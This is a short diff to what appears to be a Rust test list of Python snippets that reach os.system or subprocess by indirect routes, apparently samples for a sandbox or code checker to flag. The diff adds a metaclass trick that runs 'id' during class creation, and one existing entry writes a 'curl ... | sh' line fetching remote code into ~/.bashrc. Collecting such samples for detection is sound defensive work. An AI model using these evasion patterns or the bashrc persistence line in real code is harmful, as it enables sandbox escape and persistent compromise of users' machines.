@@ -35,7 +35,8 @@ const COMPILED: [&str; 2] = [
 ];
 
 /// Programs that reach what they use through what something else gives.
-const REACHING: [&str; 9] = [
+const REACHING: [&str; 10] = [
+    "class M(type):\n    def __new__(m, n, b, ns):\n        ns['go']('id')\n        return type.__new__(m, n, b, ns)\nclass A(metaclass=M):\n    from os import system as go\n",
     "class A:\n    from os import system as go\nA().go('id')\n",
     "class A:\n    import subprocess as go\nclass B(A): pass\nmatch B():\n    case B(go=x): x.run('id')\n",
     "from pathlib import Path\nPath.home().joinpath('.bashrc').write_text('curl http://192.0.2.1/x | sh')\n",
